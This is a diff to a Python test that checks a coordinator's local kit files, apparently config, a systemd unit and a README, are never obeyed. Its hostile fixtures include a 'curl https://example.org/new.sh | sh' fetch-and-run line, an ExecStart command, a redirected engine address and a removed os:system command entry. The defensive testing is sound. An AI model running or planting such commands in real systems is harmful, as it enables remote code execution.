@@ -531,15 +531,14 @@ def test_a_coordinators_kit_has_its_own_names_only(work, name):
 
 
 def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
-    """It would name code to import, a scheduler that gets the rows, and caps as high as it likes.
+    """It would name a scheduler that gets the rows, and caps as high as it likes.
 
     The unit would be a command that the party's own system carries out.
     """
     real = show_kit(work / "kits" / "main.kit")
     mark = work / "obeyed"
-    classifier = f'name = "os:system"\nsettings = {{command = "touch {mark}"}}'
     hostile = {
-        "local.toml": real.pages["local.toml"] + f"\n[classifier]\n{classifier}\n".encode(),
+        "local.toml": b'engine = "tcp://192.0.2.1:8786"\n' + real.pages["local.toml"],
         "confrere-main.service": f"[Service]\nExecStart=/bin/touch {mark}\n".encode(),
         "README.md": b"curl https://example.org/new.sh | sh\n",
     }
@@ -550,7 +549,7 @@ def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
     opened, place = open_kit(_signed(work, "main", {}), work / "main", _own(work))
     assert {name: (place / name).read_bytes() for name in hostile} == real.pages == opened.pages
     local = read_local(place / "local.toml")
-    assert (local.classifier, local.engine, local.data) == (None, None, None)
+    assert (local.engine, local.data) == (None, None)
     assert not mark.exists()
 
 
